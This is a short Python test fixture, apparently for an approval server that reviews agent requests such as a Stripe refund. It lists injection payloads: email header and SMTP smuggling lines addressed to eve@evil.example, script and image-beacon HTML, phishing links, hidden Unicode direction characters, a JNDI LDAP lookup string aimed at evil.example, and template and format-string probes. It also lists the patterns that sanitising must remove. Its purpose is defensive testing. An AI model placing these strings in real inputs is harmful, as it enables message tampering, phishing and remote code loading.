"""What somebody writes who means harm. An agent can write it into every text it hands in."""

TEXTS = {
    "header injection": "Refund\r\nBcc: eve@evil.example\r\n\r\nhello",
    "end of a part": "x\r\n--=_\r\nContent-Type: text/html\r\n\r\n<b>mine</b>\r\n.\r\nMAIL FROM:<eve@evil.example>",
    "slack markup": "<!channel> <@U012> *bold* <https://evil.example|click>",
    "card markup": '{"type": "TextBlock", "text": "[x](https://evil.example)"} <at>everybody</at>',
    "html": '</div><script>alert(1)</script><img src="https://evil.example/x.png"><a href="https://evil.example">x</a>',
    "links": "see https://evil.example/login or www.evil.example or evil.com/login",
    "hidden": "invoice\u202efdp.exe\u202c a\u200bb \U000e0041\U000e0042 \u2066x\u2069",
    "10,000 lines": "line\n" * 10_000,
    "one long line": "x" * 50_000,
    "template": "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n",
}

# None of it may be found in a message as it was.
ABSENT = ("\u202e", "\u200b", "\u2066", "\U000e0041", "://evil", "www.evil", "<script", "<img")


def ask(server):
    """One request with all of it; the id of the approval."""
    return server.ask(
        "stripe.refund",
        inputs={"amount": "500.00", **{f"input {at}": text[:20_000] for at, text in enumerate(TEXTS.values())}},
        context={f"context {at}": text[:2_000] for at, text in enumerate(TEXTS.values())},
        reason="\n".join(text[:500] for text in TEXTS.values())[:4_000],
        description=TEXTS["html"],
    )
